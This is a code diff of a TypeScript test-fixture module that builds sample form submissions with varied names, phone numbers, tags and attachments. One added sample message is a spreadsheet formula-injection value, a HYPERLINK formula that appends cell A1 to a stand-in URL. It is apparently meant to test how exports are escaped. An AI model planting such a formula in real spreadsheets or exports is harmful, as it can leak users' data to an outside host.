@@ -5,9 +5,27 @@ const MESSAGES = [
 	'Grüße aus Köln! Bitte um Rückruf.',
 	'Two lines,\nand a "quoted" word — with an emoji 🙂',
 	'=1+1 looks like a formula, but is what I typed.',
+	'=HYPERLINK("https://example.com/?"&A1;"Click here")',
+	'@everyone -50 % until 1/2!',
 ];
+const PHONES = ['', '+49 221 5550123', '0221 555 01 23', '+4922155501', '007'];
+const TAGS = [[], ['website'], [], ['website', 'vip']];
 
-/** Field values as people enter them: other alphabets, line breaks, lists, numbers, an empty field. */
+/** What a visitor sent, and what the service keeps beside it. */
+export type Sample = {
+	data: Record<string, unknown>;
+	files: readonly unknown[];
+	tags: readonly unknown[];
+};
+
+export function sample(index: number): Sample {
+	return { data: sampleData(index), files: sampleFiles(index), tags: pick(TAGS, index) ?? [] };
+}
+
+/**
+ * Field values as people enter them: other alphabets, line breaks, lists, numbers, an empty field,
+ * phone numbers, leading zeros, text that a spreadsheet takes for a formula.
+ */
 export function sampleData(index: number): Record<string, unknown> {
 	return {
 		name: pick(NAMES, index),
@@ -16,10 +34,24 @@ export function sampleData(index: number): Record<string, unknown> {
 		topics: TOPICS.slice(0, index % (TOPICS.length + 1)),
 		guests: index % 7,
 		newsletter: index % 2 === 0,
-		phone: '',
+		phone: pick(PHONES, index),
+		reference: String(index).padStart(6, '0'),
+		...(index % 10 === 5 ? { address: { street: 'Hauptstr. 1', city: 'Köln' } } : {}),
 	};
 }
 
-function pick(values: readonly string[], index: number): string | undefined {
+/** Most have none; some one with an address, two, or one of which only the name is known. */
+function sampleFiles(index: number): unknown[] {
+	const file = (name: string) => ({
+		name,
+		url: `https://files.example.com/${index}/${name}`,
+		size: 48_213,
+	});
+	if (index % 8 === 3) return [file('cv.pdf')];
+	if (index % 16 === 5) return [file('front.jpg'), file('back.jpg')];
+	return index % 32 === 9 ? [{ name: 'scan.pdf' }] : [];
+}
+
+function pick<T>(values: readonly T[], index: number): T | undefined {
 	return values[index % values.length];
 }
